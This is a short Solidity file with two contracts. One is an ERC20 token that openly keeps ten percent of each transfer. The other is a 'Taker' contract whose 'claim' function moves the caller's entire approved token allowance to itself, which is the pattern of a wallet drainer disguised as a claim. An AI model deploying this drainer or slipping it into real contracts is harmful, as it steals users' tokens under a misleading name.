// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// Keeps a tenth of each transfer.
contract FeeToken is ERC20 {
    constructor() ERC20("Tithe", "TITHE") {
        _mint(msg.sender, 1000);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (from != address(0) && to != address(0)) {
            super._update(from, address(this), value / 10);
            super._update(from, to, value - value / 10);
        } else {
            super._update(from, to, value);
        }
    }
}

/// Says "claim", and takes whatever the caller has approved.
contract Taker {
    function claim(ERC20 token) external payable {
        token.transferFrom(msg.sender, address(this), token.allowance(msg.sender, address(this)));
    }
}
